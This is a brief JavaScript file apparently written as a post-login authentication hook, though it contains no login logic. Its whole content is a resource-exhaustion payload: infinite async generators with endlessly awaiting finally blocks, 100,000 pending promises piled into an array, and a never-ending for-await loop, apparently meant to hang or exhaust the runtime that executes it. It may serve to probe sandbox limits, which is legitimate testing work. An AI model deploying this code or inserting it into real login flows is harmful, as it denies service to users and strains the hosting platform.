exports.onExecutePostLogin = async (event, api) => {
  async function* forever() { try { for (;;) yield 1; } finally { for (;;) await 1; } }
  const all = [];
  for (let i = 0; i < 1e5; i++) all.push(forever().next());
  for await (const x of forever()) all.push(x);
};
